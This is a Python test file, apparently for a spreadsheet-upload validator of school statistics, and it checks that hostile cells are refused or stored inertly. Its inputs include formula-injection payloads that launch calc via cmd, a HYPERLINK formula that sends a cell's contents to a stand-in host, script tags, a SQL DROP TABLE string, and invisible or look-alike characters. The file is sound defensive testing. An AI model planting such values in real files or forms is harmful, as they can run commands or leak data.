"""What may stand in a single cell: formulas, letters that only look right, numbers in every dress."""

from datetime import date, datetime, time

import pytest

from tests.intake.hostile import (
    HEADER,
    NAMES,
    NUMBERS,
    SHEET,
    STORED,
    case,
    changed,
    check,
    made,
    put,
    row,
    tidy,
    workbook,
)  # fmt: skip

pytestmark = [pytest.mark.django_db, pytest.mark.read]

FORMULA = "Line 2: this cell is a formula; paste the value itself."
SAME_LOOK = "Line 2: this cell has letters of another alphabet that only look the same"
INVISIBLE = "Line 2: this cell has a letter that cannot be seen; type the text anew."

FORMULAS = [
    case(f"{start!r} at the beginning of the {column}", tidy(row(**{column: start + "cmd|calc"})), refuses=expected)
    for start, expected in (("=", FORMULA), ("+", FORMULA), ("-", FORMULA), ("@", FORMULA))
    for column in ("indicator", "place", "group", "note")
] + [
    case("a formula for a value", tidy(row(value="=1+1")), refuses=FORMULA),
    case("an old formula for a value", tidy(row(value="@SUM(1)")), refuses=FORMULA),
    case("a formula for a year", tidy(row(period="=YEAR(NOW())")), refuses=FORMULA),
    case("a formula for a count", tidy(row(numerator="=331")), refuses=FORMULA),
    case("a formula for a status", tidy(row(status="=final")), refuses=FORMULA),
    case("a formula for a source", tidy(row(source="@edsight")), refuses=FORMULA),
    case("a call of another program", tidy(row(note="\"=cmd|' /C calc'!A0\"")), refuses=FORMULA),
    case(
        "a link that sends what it sees",
        tidy(row(note='"=HYPERLINK(""http://x.example/?""&A1,""x"")"')),
        refuses=FORMULA,
    ),
    case("a formula behind a tab", tidy(row(note='"\t=1+1"')), refuses=FORMULA),
    case("a formula behind a line end", tidy(row(note='"\r=1+1"')), refuses=FORMULA),
    case("a formula behind an apostrophe", tidy(row(note="'=1+1")), f"{STORED} “'=1+1”"),
    case("a full-width equals sign", tidy(row(note="＝1+1")), refuses=FORMULA),
    case("a formula that is only a text", tidy(row(note='"=""Revised"""')), f"{STORED} “Revised”"),
    case("a formula inside a formula that is only a text", tidy(row(note='"=""=1+1"""')), refuses=FORMULA),
    case("a code kept as text by a formula", tidy(row(place='"=""0640011"""')), STORED),
    case("a code kept as text by a formula without quotes around it", tidy(row(place='="0640011"')), STORED),
    case(
        "a text formula that was cut at its comma",
        tidy(row(place='="Hartford, School District"')),
        refuses="Line 2: the place “Hartford, School District” is not known. The nearest known",
    ),
]

HOMOGLYPHS = [
    case("a Cyrillic а in a group", tidy(row(group="Femаle")), refuses=SAME_LOOK),
    case("a Greek ο in an indicator", tidy(row(indicator="graduatiοn-4yr")), refuses=SAME_LOOK),
    case("full-width letters in a group", tidy(row(group="ｂｌａｃｋ")), refuses=SAME_LOOK),
    case(
        "full-width digits in a code",
        tidy(row(place="０６４００１１")),
        refuses=SAME_LOOK,
    ),
    case("full-width digits in a value", tidy(row(value="８０.１")), refuses="Line 2: this cell is not a number"),
    case("Arabic digits in a value", tidy(row(value="٨٠")), refuses="Line 2: this cell is not a number"),
    case(
        "full-width digits in a count", tidy(row(numerator="３３１")), refuses="Line 2: this cell is not a whole number"
    ),
    case(
        "superscript digits in a count", tidy(row(numerator="33¹")), refuses="Line 2: this cell is not a whole number"
    ),
    case("full-width digits in a year", tidy(row(period="２０２５")), refuses="Line 2: this cell is not a year"),
    case("a Cyrillic letter in a status", tidy(row(status="finаl")), refuses="Line 2: this status is not known"),
    case(
        "a star that is not the star",
        tidy(row(value="∗", numerator="", status="")),
        refuses="Line 2: this cell is not a number",
    ),
    case("a minus that is not the hyphen", tidy(row(value="−5")), refuses="Line 2: this cell is not a number"),
    case("a dash in a school year", tidy(row(period="2024–25")), STORED),
    case("a slash in a school year", tidy(row(period="2024/25")), STORED),
    case("a letter without width in a group", tidy(row(group="bl\u200back")), refuses=INVISIBLE),
    case("a letter without width in a value", tidy(row(value="80\u200b.1")), refuses=INVISIBLE),
    case("a letter without width in a count", tidy(row(numerator="331\u200b")), refuses=INVISIBLE),
    case("a byte order mark in a code", tidy(row(place="\ufeff0640011")), refuses=INVISIBLE),
    case("a mark that turns the line around", tidy(row(note="\u202eevil")), refuses=INVISIBLE),
    case("a soft hyphen in a group", tidy(row(group="bl\u00adack")), refuses=INVISIBLE),
    case("a backspace in a note", tidy(row(note="a\x08b")), refuses=INVISIBLE),
    case("an escape in a note", tidy(row(note="\x1b[31mred")), refuses=INVISIBLE),
    case("a combining mark in a group", tidy(row(group="bla\u0301ck")), refuses="Line 2"),
    case("an accent in two letters in a note", tidy(row(note="Cafe\u0301")), f"{STORED} “Cafe\u0301”"),
    case(
        "many combining marks in a note",
        tidy(row(note="e" + "\u0301" * 60)),
        refuses="Line 2: this cell has marks piled upon a letter",
    ),
    case("blanks that do not break in a name", tidy(row(group="Black\u00a0or African\u00a0American")), STORED),
    case("blanks that do not break around a value", tidy(row(value="\u00a080.1\u00a0")), STORED),
    case(
        "a blank that does not break in a value",
        tidy(row(value="80\u00a01")),
        refuses="Line 2: this cell is not a number",
    ),
    case("capitals in a name", tidy(row(group="BLACK OR AFRICAN AMERICAN", indicator="Graduation-4YR")), STORED),
    case("an emoji in a note", tidy(row(note="up \U0001f600")), f"{STORED} “up \U0001f600”"),
    case("HTML in a note", tidy(row(note="<script>alert(1)</script>")), f"{STORED} “<script>alert(1)</script>”"),
    case(
        "a backslash and SQL in a note",
        tidy(row(note="\\N'); DROP TABLE x;--\\t\\")),
        f"{STORED} “\\N'); DROP TABLE x;--\\t\\”",
    ),
    case("a note that reads like no value in PostgreSQL's COPY", tidy(row(note="\\N")), f"{STORED} “\\N”"),
    case("a note that reads like the end of COPY", tidy(row(note="\\.")), f"{STORED} “\\.”"),
    case("braces in a cell", tidy(row(group="{0.__class__}")), refuses="Line 2: this group is not known"),
    case("braces in a header", tidy(row(), header=HEADER.replace("note", "{line}")), whole="that is not known"),
    case("a percent sign for Python in a note", tidy(row(note="%s %(x)s")), f"{STORED} “%s %(x)s”"),
]

WORKBOOKS = [
    case("numbers as numbers", workbook([NAMES, NUMBERS]), STORED),
    case("numbers as text", workbook([NAMES, [str(cell) for cell in NUMBERS]]), STORED),
    case(
        "a number with the noise of its making",
        workbook([NAMES, [*NUMBERS[:4], 80.10000000000001, *NUMBERS[5:]]]),
        STORED,
    ),
    case("a code that lost its zero", workbook([NAMES, ["graduation-4yr", 640011, *NUMBERS[2:]]]), STORED),
    case("a code that became a fraction", workbook([NAMES, ["graduation-4yr", "640011.0", *NUMBERS[2:]]]), STORED),
    case(
        "a count with a fraction",
        workbook([NAMES, [*NUMBERS[:5], 331.5, *NUMBERS[6:]]]),
        refuses="Line 2: 331.5 is not a whole number of students",
    ),
    case(
        "a percentage as Excel keeps it",
        workbook([NAMES, [*NUMBERS[:4], 0.801, *NUMBERS[5:]]]),
        refuses="Line 2: 0.801 contradicts its counts",
    ),
    case(
        "a percentage as Excel keeps it, without counts",
        workbook([NAMES, [*NUMBERS[:4], 0.801, None, None, *NUMBERS[7:]]]),
        refuses="Line 2: 0.801 looks like a fraction; write 80.1",
    ),
    case("a formula without a value", made(put("E2", "=331/413*100")), whole="Line 2 has a formula"),
    case(
        "a formula with a value",
        changed(
            made(put("E2", "=331/413*100")),
            SHEET,
            lambda part: part.replace(b"<v />", b"<v>80.1</v>").replace(b"<v></v>", b"<v>80.1</v>"),
        ),
        whole="Line 2 has a formula",
    ),
    case("a formula in the header", made(put("A1", '="indicator"')), whole="Line 1 has a formula"),
    case("a shared formula of an array", made(put("J2", "=SUM(E2:G2)")), whole="Line 2 has a formula"),
    case("an error in place of a value", made(put("E2", "#DIV/0!")), whole="Line 2 has an Excel error (#DIV/0!)"),
    case("an error in a name", made(put("B2", "#N/A")), whole="Line 2 has an Excel error (#N/A)"),
    case(
        "a date for a year",
        made(put("D2", date(2025, 6, 30))),
        whole="Line 2 looks like it tells about a single person",
    ),
    case(
        "a date and a time for a value",
        made(put("E2", datetime.combine(date(2025, 6, 30), time(12, 30)))),
        whole="Line 2 looks like it tells about a single person",
    ),
    case("true for a value", made(put("E2", True)), refuses="Line 2: this cell is not a number"),
    case(
        "a line end in a cell",
        made(put("J2", "one\ntwo")),
        refuses="Line 2: this cell has a letter that cannot be seen",
    ),
    case("a formula kept as text", made(put("J2", "@SUM(1)")), refuses="Line 2: this cell is a formula"),
    case("a number that is too large for a cell", made(put("E2", 1e308)), refuses="Line 2"),
]


@pytest.mark.parametrize("one", [*FORMULAS, *HOMOGLYPHS, *WORKBOOKS], ids=str)
def test_a_cell_is_taken_for_what_it_says_and_never_for_what_it_looks_like(one, admin_user, monkeypatch):
    check(one, admin_user, monkeypatch)
